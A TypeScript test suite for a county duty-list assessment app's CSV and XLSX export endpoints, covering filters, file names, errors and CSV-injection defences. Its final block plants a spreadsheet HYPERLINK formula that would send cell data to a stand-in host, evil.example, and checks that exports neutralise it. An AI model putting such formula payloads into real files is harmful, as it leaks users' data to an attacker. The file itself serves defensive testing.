import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { demoAssessmentPlan, demoCounty } from "@dutylist/core/testing";
import { type Database, openDatabase } from "@dutylist/store";
import { resetDatabase, testDatabaseTarget } from "@dutylist/store/testing";
import { parseCsv, readWorkbook } from "@dutylist/workbook";
import { parse as parseDisposition } from "content-disposition";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ensureDemoCounty } from "./demo-data.ts";
import { createTestApi, type TestApi } from "./test-api.ts";

let db: Database;
let api: TestApi;

beforeAll(async () => {
  db = await openDatabase(await testDatabaseTarget("api_exports"));
  await resetDatabase(db);
  await ensureDemoCounty(db);
  api = await createTestApi(db);
});
afterAll(async () => {
  await db?.close();
});

const dataset = demoCounty();
const plan = demoAssessmentPlan();

async function post<T>(query: string, variables: Record<string, unknown> = {}): Promise<T> {
  const response = await api.fetch("http://127.0.0.1/graphql", {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ query, variables }),
  });
  const result = (await response.json()) as { data?: T; errors?: { message: string }[] };
  expect(result.errors).toBeUndefined();
  if (result.data === undefined) throw new Error("no data");
  return result.data;
}

function download(pathAndQuery: string, init: RequestInit = {}): Promise<Response> {
  return Promise.resolve(api.fetch(`http://127.0.0.1${pathAndQuery}`, init));
}

/** A CSV download read back: its header and its rows as objects keyed by header. */
async function csvRows(response: Response): Promise<{ header: string[]; rows: Record<string, string>[] }> {
  expect(response.status).toBe(200);
  expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
  const text = await response.text();
  const [header = [], ...rows] = parseCsv(text);
  return { header, rows: rows.map((row) => Object.fromEntries(header.map((h, i) => [h, row[i] ?? ""]))) };
}

interface ParameterErrors {
  readonly errors: readonly { readonly parameter: string | null; readonly message: string }[];
}

async function errorsOf(response: Response, status: number): Promise<ParameterErrors["errors"]> {
  expect(response.status).toBe(status);
  expect(response.headers.get("content-type")).toMatch(/^application\/json/);
  return ((await response.json()) as ParameterErrors).errors;
}

describe("score downloads narrow exactly like the facts connections", () => {
  const TOWNSHIP_FACTS = `query ($townshipCode: String, $indicatorCode: String, $firstLevelCode: String) {
    townshipScoreFacts(countyCode: "QX", year: 2025, first: 1000, townshipCode: $townshipCode, indicatorCode: $indicatorCode, firstLevelCode: $firstLevelCode) {
      ... on QueryTownshipScoreFactsSuccess { data { totalCount edges { node {
        townshipCode townshipName indicatorCode firstLevelCode score scoreExact recordCount excludedCount } } } } } }`;
  interface TownshipFacts {
    readonly townshipScoreFacts: {
      readonly data: {
        readonly totalCount: number;
        readonly edges: readonly {
          readonly node: {
            townshipCode: string;
            townshipName: string;
            indicatorCode: string;
            firstLevelCode: string;
            score: string;
            scoreExact: string;
            recordCount: number;
            excludedCount: number;
          };
        }[];
      };
    };
  }

  const cases: readonly Record<string, string>[] = [
    {},
    { townshipCode: "QX-CG" },
    { firstLevelCode: "T02" },
    { townshipCode: "QX-BS", indicatorCode: "T05-1" },
    { townshipCode: "NOPE" },
  ];

  it.each(cases)("township-scores.csv with %o", async (filters) => {
    const { data } = (await post<TownshipFacts>(TOWNSHIP_FACTS, filters)).townshipScoreFacts;
    const query = new URLSearchParams({ countyCode: "QX", year: "2025", ...filters });
    const { header, rows } = await csvRows(await download(`/export/township-scores.csv?${query}`));
    expect(header.slice(0, 8)).toEqual([
      "年度",
      "乡镇(街道)编码",
      "乡镇(街道)",
      "一级指标编码",
      "一级指标",
      "指标编码",
      "二级指标",
      "考核类别",
    ]);
    expect(rows).toHaveLength(data.totalCount);
    expect(
      rows.map((r) => [
        r["乡镇(街道)编码"],
        r["乡镇(街道)"],
        r.指标编码,
        r.一级指标编码,
        r.精确得分,
        r.得分,
        Number(r.计入记录数),
        Number(r.排除记录数),
      ]),
    ).toEqual(
      data.edges.map(({ node: n }) => [
        n.townshipCode,
        n.townshipName,
        n.indicatorCode,
        n.firstLevelCode,
        n.scoreExact,
        n.score,
        n.recordCount,
        n.excludedCount,
      ]),
    );
  });

  it("department-scores.csv by first-level and department, like departmentScoreFacts", async () => {
    const facts = await post<{
      departmentScoreFacts: {
        data: { edges: { node: { departmentCode: string; indicatorCode: string } }[] };
      };
    }>(`{ departmentScoreFacts(countyCode: "QX", year: 2025, first: 1000, firstLevelCode: "D03", departmentCode: "ZJJ") {
      ... on QueryDepartmentScoreFactsSuccess { data { edges { node { departmentCode indicatorCode } } } } } }`);
    const expected = facts.departmentScoreFacts.data.edges.map((e) => [
      e.node.departmentCode,
      e.node.indicatorCode,
    ]);
    expect(expected.length).toBeGreaterThan(0);
    const { rows } = await csvRows(
      await download(
        "/export/department-scores.csv?countyCode=QX&year=2025&firstLevelCode=D03&departmentCode=ZJJ",
      ),
    );
    expect(rows.map((r) => [r.部门编码, r.指标编码])).toEqual(expected);
  });

  it("names the file in Chinese with an ASCII fallback", async () => {
    const response = await download("/export/township-scores.csv?countyCode=QX&year=2025");
    expect(response.headers.get("content-disposition")).toBe(
      `attachment; filename="township-scores-QX-2025.csv"; filename*=UTF-8''${encodeURIComponent("青溪县2025年度乡镇得分明细.csv")}`,
    );
    // A client reading the header (RFC 6266) gets the Chinese name.
    expect(parseDisposition(response.headers.get("content-disposition") ?? "")).toEqual({
      type: "attachment",
      parameters: { filename: "青溪县2025年度乡镇得分明细.csv" },
    });
    // A UTF-8 BOM first, so that Excel reads the Chinese right.
    expect(new Uint8Array(await response.arrayBuffer()).slice(0, 3)).toEqual(
      new Uint8Array([0xef, 0xbb, 0xbf]),
    );
  });
});

describe("workbook downloads", () => {
  const XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

  async function xlsx(pathAndQuery: string): Promise<Uint8Array> {
    const response = await download(pathAndQuery);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe(XLSX);
    expect(response.headers.get("content-disposition")).toMatch(/^attachment; .*filename\*=UTF-8''.+\.xlsx$/);
    const bytes = new Uint8Array(await response.arrayBuffer());
    // A ZIP archive, as every .xlsx is.
    expect(String.fromCharCode(bytes[0] ?? 0, bytes[1] ?? 0)).toBe("PK");
    return bytes;
  }

  it("serves the scores, the lists and the determinations as .xlsx", async () => {
    await xlsx("/export/township-scores.xlsx?countyCode=QX&year=2025&townshipCode=QX-CG");
    await xlsx("/export/department-scores.xlsx?countyCode=QX&year=2025");
    await xlsx("/export/lists.xlsx?countyCode=QX&asOf=2025-10-01");
    await xlsx("/export/determinations.xlsx?countyCode=QX");
  });

  it("records in the lists' 清单信息 the county revision they were made from (数据版本) and when", async () => {
    const bytes = await xlsx("/export/lists.xlsx?countyCode=QX&asOf=2025-10-01");
    const dir = await mkdtemp(path.join(tmpdir(), "dutylist-exports-"));
    try {
      const file = path.join(dir, "lists.xlsx");
      await writeFile(file, bytes);
      const { sheets } = await readWorkbook(file);
      const info = sheets.find((s) => s.name === "清单信息");
      const fields = new Map(info?.rows.map((r) => [String(r.cells[0]), String(r.cells[1])]));
      expect(fields.get("数据版本")).toMatch(/^[1-9]\d*$/);
      expect(fields.get("导出时间")).toMatch(/^\d{4}-\d{2}-\d{2}T/);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it("writes the year's rankings and breakdowns, one ranking row per township", async () => {
    const bytes = await xlsx("/export/assessment.xlsx?countyCode=QX&year=2025");
    const dir = await mkdtemp(path.join(tmpdir(), "dutylist-exports-"));
    try {
      const file = path.join(dir, "assessment.xlsx");
      await writeFile(file, bytes);
      const { sheets } = await readWorkbook(file);
      expect(sheets.map((s) => s.name)).toEqual([
        "乡镇排名",
        "乡镇得分明细",
        "部门排名",
        "部门得分明细",
        "排除记录",
        // H2: the whistle loop's figures of the year, by department, township and item.
        "吹哨报到",
        // The county's policy settings, labelled as policy, not rules (issue 14, item 10).
        "政策设定(非规则)",
      ]);
      const ranking = sheets[0];
      expect(ranking?.rows.length).toBe(dataset.townships.length + 1);
      expect(ranking?.rows[1]?.cells.slice(0, 1)).toEqual([1]);
      // Typed cells (S8): the total a number, the figure presented once; Excel sums it as shown.
      const totals = ranking?.rows.slice(1).map((r) => r.cells[5]) ?? [];
      expect(totals.every((t) => typeof t === "number" && Number.isInteger(Math.round(t * 100)))).toBe(true);
      const excluded = sheets.find((s) => s.name === "排除记录");
      expect(excluded?.rows[1]?.cells[1]).toBeInstanceOf(Date);
      const townshipIndicators = plan.indicators.filter((i) => i.subject === "TOWNSHIP").length;
      expect(sheets[1]?.rows.length).toBe(dataset.townships.length * townshipIndicators + 1);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe("lists downloads", () => {
  it("answers one list as CSV, the items listsAsOf gives", async () => {
    const lists = await post<{ listsAsOf: { cooperative: { itemCode: string }[] } }>(
      `{ listsAsOf(countyCode: "QX", townshipCode: "QX-CG", date: "2025-10-01") { cooperative { itemCode } } }`,
    );
    const response = await download(
      "/export/lists.csv?countyCode=QX&asOf=2025-10-01&townshipCode=QX-CG&list=COOPERATIVE",
    );
    expect(response.headers.get("content-disposition")).toContain(
      encodeURIComponent("青溪县城关镇配合履职事项_2025-10-01.csv"),
    );
    const { header, rows } = await csvRows(response);
    expect(header).toContain("牵头部门");
    expect(rows.map((r) => r.事项编码).sort()).toEqual(
      lists.listsAsOf.cooperative.map((e) => e.itemCode).sort(),
    );
    expect(rows.every((r) => r["乡镇(街道)"] === "城关镇")).toBe(true);
  });

  it("requires the list for CSV, and a township of the county", async () => {
    const missing = await errorsOf(await download("/export/lists.csv?countyCode=QX&asOf=2025-10-01"), 400);
    expect(missing.map((e) => e.parameter)).toEqual(["list"]);
    expect(missing[0]?.message).toContain("COOPERATIVE");
    const foreign = await errorsOf(
      await download("/export/lists.xlsx?countyCode=QX&asOf=2025-10-01&townshipCode=NOPE"),
      404,
    );
    expect(foreign).toEqual([{ parameter: "townshipCode", message: expect.stringContaining("NOPE") }]);
  });
});

describe("determination downloads narrow exactly like determinationFacts", () => {
  const RECORD = `mutation ($input: FailureCaseInput!) { recordFailureCase(countyCode: "QX", input: $input) {
    ... on MutationRecordFailureCaseSuccess { data { decisionId } } } }`;
  const FACTS = `query ($role: Role, $partyCode: String, $townshipCode: String) {
    determinationFacts(countyCode: "QX", first: 100, role: $role, partyCode: $partyCode, townshipCode: $townshipCode) {
      totalCount edges { node { decisionId partyCode role ruleIds } } } }`;
  interface Facts {
    readonly determinationFacts: {
      readonly totalCount: number;
      readonly edges: readonly {
        readonly node: { decisionId: string; partyCode: string; role: string; ruleIds: string[] };
      }[];
    };
  }
  const ROLES: Readonly<Record<string, string>> = {
    PRIMARY: "主要责任",
    SECONDARY: "次要责任",
    NONE: "不承担责任",
  };

  beforeAll(async () => {
    const inputs = [
      {
        townshipCode: "QX-CG",
        date: "2025-05-10",
        itemCode: "PA-002",
        findings: { townshipAtFault: true, withinCooperationContent: true, guaranteesDelivered: false },
      },
      {
        townshipCode: "QX-TY",
        date: "2025-09-12",
        matter: "建筑工地扬尘污染执法检查",
        findings: { pushedDownBy: "ZJJ" },
      },
      { townshipCode: "QX-CG", date: "2025-03-15", itemCode: "MS-001", findings: { townshipAtFault: true } },
    ];
    for (const input of inputs) await post(RECORD, { input });
  });

  const cases: readonly Record<string, string>[] = [
    {},
    { role: "PRIMARY" },
    { townshipCode: "QX-TY", partyCode: "QX-TY" },
    { townshipCode: "QX-CG", role: "SECONDARY" },
    { partyCode: "NOPE" },
  ];

  it.each(cases)("determinations.csv with %o", async (filters) => {
    const facts = (await post<Facts>(FACTS, filters)).determinationFacts;
    const query = new URLSearchParams({ countyCode: "QX", ...filters });
    const { rows } = await csvRows(await download(`/export/determinations.csv?${query}`));
    expect(rows).toHaveLength(facts.totalCount);
    // Same rows; the file lists the newest failure first, the connection pages by decision id.
    expect(rows.map((r) => [r.认定编号, r.当事方编码, r.责任, r.规则]).sort()).toEqual(
      facts.edges
        .map(({ node: n }) => [n.decisionId, n.partyCode, ROLES[n.role], n.ruleIds.join("、")])
        .sort(),
    );
  });

  it("cites the rules, version and basis per party", async () => {
    const { rows } = await csvRows(
      await download("/export/determinations.csv?countyCode=QX&townshipCode=QX-CG&role=SECONDARY"),
    );
    expect(rows).toEqual([
      expect.objectContaining({
        发生日期: "2025-05-10",
        "乡镇(街道)": "城关镇",
        事项编码: "PA-002",
        清单类型: "配合履职事项",
        当事方: "城关镇",
        规则: "A2、A10",
        依据: expect.stringContaining("《中华人民共和国消防法》"),
        清单版本: expect.stringMatching(/^第1版/),
      }),
    ]);
  });
});

describe("bad requests", () => {
  it("names a bad year (400)", async () => {
    const errors = await errorsOf(await download("/export/township-scores.csv?countyCode=QX&year=20x5"), 400);
    expect(errors).toEqual([{ parameter: "year", message: expect.stringContaining("20x5") }]);
  });

  it("names every bad parameter at once: missing, malformed, repeated, unknown", async () => {
    const errors = await errorsOf(
      await download(
        "/export/department-scores.xlsx?year=abc&townshipCode=QX-CG&indicatorCode=a&indicatorCode=b",
      ),
      400,
    );
    expect(errors.map((e) => e.parameter).sort()).toEqual([
      "countyCode",
      "indicatorCode",
      "townshipCode",
      "year",
    ]);
    const message = (parameter: string) => errors.find((e) => e.parameter === parameter)?.message;
    expect(message("countyCode")).toBe("缺少参数 countyCode(县(市、区)编码)");
    expect(message("indicatorCode")).toBe("参数 indicatorCode 只能给一次");
    expect(message("townshipCode")).toContain(
      "未知参数 townshipCode;此下载接受 countyCode、year、departmentCode",
    );
    expect(message("year")).toBe("考核年度应为四位数字,如 2025;收到“abc”");
    const dates = await errorsOf(await download("/export/lists.xlsx?countyCode=QX&asOf=2025-02-30"), 400);
    expect(dates.map((e) => e.parameter)).toEqual(["asOf"]);
    const roles = await errorsOf(await download("/export/determinations.csv?countyCode=QX&role=MAIN"), 400);
    expect(roles).toEqual([{ parameter: "role", message: expect.stringContaining("PRIMARY") }]);
  });

  it("answers 404 for an unknown county, a year without a plan and an unknown download", async () => {
    const county = await errorsOf(await download("/export/assessment.xlsx?countyCode=NOPE&year=2025"), 404);
    expect(county).toEqual([{ parameter: "countyCode", message: "县(市、区) NOPE 不存在" }]);
    const year = await errorsOf(await download("/export/township-scores.csv?countyCode=QX&year=2019"), 404);
    expect(year).toEqual([{ parameter: "year", message: expect.stringContaining("2019") }]);
    const determinations = await errorsOf(await download("/export/determinations.csv?countyCode=NOPE"), 404);
    expect(determinations.map((e) => e.parameter)).toEqual(["countyCode"]);
    const unknown = await errorsOf(await download("/export/scores.csv?countyCode=QX"), 404);
    expect(unknown[0]?.message).toContain("/export/township-scores.csv");
    expect(unknown[0]?.message).toContain("/export/report.html");
  });

  it("answers only GET, and leaves GraphQL where it was", async () => {
    const posted = await download("/export/assessment.xlsx?countyCode=QX&year=2025", { method: "POST" });
    expect(posted.status).toBe(405);
    expect(posted.headers.get("allow")).toBe("GET");
    const data = await post<{ county: { name: string } }>(`{ county(code: "QX") { name } }`);
    expect(data.county.name).toBe("青溪县");
  });
});

describe("text that a spreadsheet would run as a formula (CSV injection, OWASP)", () => {
  const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")';
  const RECORD = `mutation ($input: FailureCaseInput!) { recordFailureCase(countyCode: "QX", input: $input) {
    ... on MutationRecordFailureCaseSuccess { data { decisionId } } } }`;
  let decisionId = "";

  beforeAll(async () => {
    const data = await post<{ recordFailureCase: { data: { decisionId: string } } }>(RECORD, {
      input: {
        townshipCode: "QX-SM",
        date: "2025-04-02",
        matter: HYPERLINK,
        findings: { pushedDownBy: "ZJJ" },
      },
    });
    decisionId = data.recordFailureCase.data.decisionId;
  });

  it("determinations.csv writes the free text with a leading quote, shown and not run", async () => {
    const response = await download("/export/determinations.csv?countyCode=QX&townshipCode=QX-SM");
    const { rows } = await csvRows(response);
    const row = rows.find((r) => r.认定编号 === decisionId);
    expect(row?.事项说明).toBe(`'${HYPERLINK}`);
    // No cell of the file starts with a formula character, but plain numbers.
    const cells = rows.flatMap((r) => Object.values(r));
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(\.\d+)?$/.test(c))).toEqual([]);
  });

  it("determinations.xlsx writes it as a string cell, not a formula", async () => {
    const response = await download("/export/determinations.xlsx?countyCode=QX&townshipCode=QX-SM");
    expect(response.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await response.arrayBuffer());
    const cells: ExcelJS.Cell[] = [];
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.text === HYPERLINK) cells.push(cell);
        }),
      ),
    );
    // One row per party of the case.
    expect(cells.length).toBeGreaterThan(0);
    for (const cell of cells)
      expect([cell.type, cell.formula]).toEqual([ExcelJS.ValueType.String, undefined]);
  });
});
